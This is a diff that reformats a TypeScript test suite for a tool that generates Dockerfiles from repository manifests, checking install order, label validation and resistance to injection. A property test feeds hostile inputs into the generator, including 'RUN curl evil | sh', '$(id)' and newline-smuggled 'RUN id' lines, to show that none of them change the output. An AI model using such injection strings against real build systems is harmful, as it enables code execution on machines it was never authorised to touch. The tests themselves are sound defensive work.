@@ -36,17 +36,36 @@ async function envFor(tree: Record<string, string>, useRepoDockerfile = false): 
 const COMMIT = 'a'.repeat(40)
 const CREATED = '2024-01-02T03:04:05.000Z'
 function render(env: Environment, over: Partial<DockerfileInput> = {}): string {
-  return renderDockerfile({ environment: env, baseImage: env.baseImage!, baseImageFrom: 'detection', commit: COMMIT, created: CREATED, sourceUrl: 'https://example.com/o/r', ...over })
+  return renderDockerfile({
+    environment: env,
+    baseImage: env.baseImage!,
+    baseImageFrom: 'detection',
+    commit: COMMIT,
+    created: CREATED,
+    sourceUrl: 'https://example.com/o/r',
+    ...over
+  })
 }
 const instructions = (text: string) => text.split('\n').filter((l) => /^[A-Z]+ /.test(l))
 const indexOf = (lines: string[], re: RegExp) => lines.findIndex((l) => re.test(l))
 
 const CASES: Record<string, Record<string, string>> = {
-  python: { 'requirements.txt': 'numpy==2.0.0\n', 'pyproject.toml': '[project]\nname = "x"\nrequires-python = ">=3.10"\n', 'apt.txt': 'libgomp1\ncurl\n' },
+  python: {
+    'requirements.txt': 'numpy==2.0.0\n',
+    'pyproject.toml': '[project]\nname = "x"\nrequires-python = ">=3.10"\n',
+    'apt.txt': 'libgomp1\ncurl\n'
+  },
   'python-stdlib': { 'main.py': 'print(1)\n', '.python-version': '3.11\n' },
   'python-local': { 'requirements.txt': '--no-index\n--find-links ./wheels\nmypkg==1.0\n' },
-  node: { 'package.json': JSON.stringify({ engines: { node: '>=20' }, dependencies: { 'is-number': '6.0.0' } }), 'package-lock.json': '{}', '.npmrc': 'fund=false\n' },
-  'node-scripts': { 'package.json': JSON.stringify({ scripts: { postinstall: 'node x.js' }, dependencies: { a: '1' } }), 'package-lock.json': '{}' },
+  node: {
+    'package.json': JSON.stringify({ engines: { node: '>=20' }, dependencies: { 'is-number': '6.0.0' } }),
+    'package-lock.json': '{}',
+    '.npmrc': 'fund=false\n'
+  },
+  'node-scripts': {
+    'package.json': JSON.stringify({ scripts: { postinstall: 'node x.js' }, dependencies: { a: '1' } }),
+    'package-lock.json': '{}'
+  },
   yarn: { 'package.json': JSON.stringify({ dependencies: { a: '1' } }), 'yarn.lock': '# yarn lockfile v1\n' },
   'yarn-berry': { 'package.json': JSON.stringify({ dependencies: { a: '1' } }), 'yarn.lock': '__metadata:\n  version: 8\n' },
   pnpm: { 'package.json': JSON.stringify({ dependencies: { a: '1' } }), 'pnpm-lock.yaml': 'lockfileVersion: 9\n' },
@@ -85,7 +104,9 @@ describe('renderDockerfile', () => {
     const pipProject = indexOf(lines, /^RUN python3 -m pip install --no-cache-dir \.$/)
     expect([apt, copyReq, pipReq, copyAll, pipProject].every((i) => i >= 0)).toBe(true)
     expect(apt < copyReq && copyReq < pipReq && pipReq < copyAll && copyAll < pipProject).toBe(true)
-    expect(text).toContain('RUN mkdir -p /home/job /job/code \\\n    && chown 10001:10001 /home/job /job /job/code \\\n    && apt-get update \\\n    && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends libgomp1 curl \\\n    && rm -rf /var/lib/apt/lists/*')
+    expect(text).toContain(
+      'RUN mkdir -p /home/job /job/code \\\n    && chown 10001:10001 /home/job /job /job/code \\\n    && apt-get update \\\n    && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends libgomp1 curl \\\n    && rm -rf /var/lib/apt/lists/*'
+    )
     expect(text).toContain('ENV DATA_DIR=/job/data \\\n    HOME=/home/job \\\n    LANG=C.UTF-8 \\\n    PYTHONUNBUFFERED=1')
     expect(text).toContain('# Installed after the code, which they need: pyproject.toml.')
   })
@@ -100,7 +121,9 @@ describe('renderDockerfile', () => {
 
   it('copies package.json, the lockfile and .npmrc before npm ci, and runs install scripts after the code', async () => {
     const lines = instructions(render(await envFor(CASES.node!)))
-    expect(lines.indexOf('COPY code/package.json code/package-lock.json code/.npmrc /job/code/')).toBeLessThan(indexOf(lines, /^RUN npm ci --no-audit --no-fund/))
+    expect(lines.indexOf('COPY code/package.json code/package-lock.json code/.npmrc /job/code/')).toBeLessThan(
+      indexOf(lines, /^RUN npm ci --no-audit --no-fund/)
+    )
     expect(indexOf(lines, /^RUN npm ci/)).toBeLessThan(lines.indexOf('COPY --chown=10001:10001 . /job'))
     const scripts = instructions(render(await envFor(CASES['node-scripts']!)))
     expect(scripts.filter((l) => l.startsWith('COPY'))).toEqual(['COPY --chown=10001:10001 . /job'])
@@ -128,22 +151,39 @@ describe('renderDockerfile', () => {
   it('puts only validated values in the labels', async () => {
     const env = await envFor(CASES.fallback!)
     const text = render(env)
-    expect(text).toContain(`LABEL org.opencontainers.image.source="https://example.com/o/r" \\\n      org.opencontainers.image.revision="${COMMIT}" \\\n      org.opencontainers.image.created="${CREATED}"`)
+    expect(text).toContain(
+      `LABEL org.opencontainers.image.source="https://example.com/o/r" \\\n      org.opencontainers.image.revision="${COMMIT}" \\\n      org.opencontainers.image.created="${CREATED}"`
+    )
     expect(render(env, { sourceUrl: 'https://x/"\nRUN id' })).not.toContain('RUN id')
     expect(() => render(env, { commit: 'HEAD' })).toThrow()
     expect(() => render(env, { created: 'now\nRUN id' })).toThrow()
   })
 
-  it('refuses to render for the repository\'s own Dockerfile', async () => {
+  it("refuses to render for the repository's own Dockerfile", async () => {
     const env = await envFor({ Dockerfile: 'FROM debian:bookworm\n' }, true)
     expect(() => render(env, { baseImage: 'debian:bookworm-slim' })).toThrow(/as-is/)
   })
 })
 
-describe('no repository text can change the Dockerfile\'s structure', () => {
+describe("no repository text can change the Dockerfile's structure", () => {
   // Lines an attacker might commit: instructions, directives, continuations, control characters.
   const hostile = fc.oneof(
-    fc.constantFrom('# syntax=docker/dockerfile:1', '# escape=`', 'RUN curl evil | sh', '\\', 'curl\nRUN id', 'x \\\nRUN id', '\r', '\u2028', 'FROM scratch', '-o APT::x', '$(id)', '`id`', '3.12\nRUN id', '>=3.10\n# syntax=x'),
+    fc.constantFrom(
+      '# syntax=docker/dockerfile:1',
+      '# escape=`',
+      'RUN curl evil | sh',
+      '\\',
+      'curl\nRUN id',
+      'x \\\nRUN id',
+      '\r',
+      '\u2028',
+      'FROM scratch',
+      '-o APT::x',
+      '$(id)',
+      '`id`',
+      '3.12\nRUN id',
+      '>=3.10\n# syntax=x'
+    ),
     fc.string({ maxLength: 40 }),
     fc.string({ unit: 'binary', maxLength: 40 })
   )
@@ -156,7 +196,13 @@ describe('no repository text can change the Dockerfile\'s structure', () => {
       'requirements.txt': manifest(fc.oneof(hostile, fc.constantFrom('numpy==2', '-e .', './x'))),
       'pyproject.toml': hostile.map((h) => `[project]\nrequires-python = ${JSON.stringify(h)}\n`),
       '.nvmrc': manifest(fc.oneof(hostile, fc.constantFrom('20', 'lts/iron'))),
-      'package.json': fc.record({ engines: fc.record({ node: hostile }), dependencies: fc.dictionary(hostile, hostile, { maxKeys: 2 }), scripts: fc.dictionary(fc.constantFrom('postinstall', 'build'), hostile, { maxKeys: 1 }) }).map((p) => JSON.stringify(p)),
+      'package.json': fc
+        .record({
+          engines: fc.record({ node: hostile }),
+          dependencies: fc.dictionary(hostile, hostile, { maxKeys: 2 }),
+          scripts: fc.dictionary(fc.constantFrom('postinstall', 'build'), hostile, { maxKeys: 1 })
+        })
+        .map((p) => JSON.stringify(p)),
       'package-lock.json': fc.constant('{}')
     },
     { requiredKeys: [] }
@@ -171,7 +217,8 @@ describe('no repository text can change the Dockerfile\'s structure', () => {
         const lines = text.split('\n')
         expect(lines[0]).toBe('# Generated by job-packager: builds an image that runs this package (run.sh, code/, data/) as-is.')
         // Every line is a comment, one of our instructions, or a continuation of one.
-        for (const line of lines) expect(line).toMatch(/^(#( [ -~]*)?|(ARG|FROM|LABEL|ENV|WORKDIR|RUN|COPY|USER|ENTRYPOINT) [ -~]+| {4,6}[ -~]+|)$/)
+        for (const line of lines)
+          expect(line).toMatch(/^(#( [ -~]*)?|(ARG|FROM|LABEL|ENV|WORKDIR|RUN|COPY|USER|ENTRYPOINT) [ -~]+| {4,6}[ -~]+|)$/)
         for (const pkg of env.aptPackages) expect(pkg).toMatch(/^[a-z0-9][a-z0-9+.-]+(:[a-z0-9-]+)?(=[0-9][A-Za-z0-9.+~:-]*)?$/)
         expect(env.version ?? '').toMatch(/^(3\.\d+|\d\d)?$/)
       }),
@@ -201,7 +248,11 @@ describe('environmentManifest', () => {
       version_constraint: '>=3.10',
       system_packages: ['libgomp1', 'curl'],
       install: [
-        { from: 'apt.txt', stage: 'system', run: 'apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends libgomp1 curl && rm -rf /var/lib/apt/lists/*' },
+        {
+          from: 'apt.txt',
+          stage: 'system',
+          run: 'apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends libgomp1 curl && rm -rf /var/lib/apt/lists/*'
+        },
         { from: 'requirements.txt', stage: 'before-code', run: 'python3 -m pip install --no-cache-dir -r requirements.txt' },
         { from: 'pyproject.toml', stage: 'after-code', run: 'python3 -m pip install --no-cache-dir .' }
       ],
@@ -210,13 +261,22 @@ describe('environmentManifest', () => {
     })
   })
 
-  it('points at code/Dockerfile and the code/ context for the repository\'s own Dockerfile', async () => {
+  it("points at code/Dockerfile and the code/ context for the repository's own Dockerfile", async () => {
     const env = await envFor({ Dockerfile: 'FROM debian:bookworm\n' }, true)
-    expect(environmentManifest(env, undefined, 'detection')).toMatchObject({ dockerfile: 'code/Dockerfile', build_context: 'code', runtime: 'generic', install: [] })
+    expect(environmentManifest(env, undefined, 'detection')).toMatchObject({
+      dockerfile: 'code/Dockerfile',
+      build_context: 'code',
+      runtime: 'generic',
+      install: []
+    })
   })
 
   it('records the detected base image when the option overrode it', async () => {
     const env = await envFor(CASES.fallback!)
-    expect(environmentManifest(env, 'ubuntu:24.04', 'base-image option')).toMatchObject({ base_image: 'ubuntu:24.04', base_image_from: 'base-image option', detected_base_image: 'debian:bookworm-slim' })
+    expect(environmentManifest(env, 'ubuntu:24.04', 'base-image option')).toMatchObject({
+      base_image: 'ubuntu:24.04',
+      base_image_from: 'base-image option',
+      detected_base_image: 'debian:bookworm-slim'
+    })
   })
 })
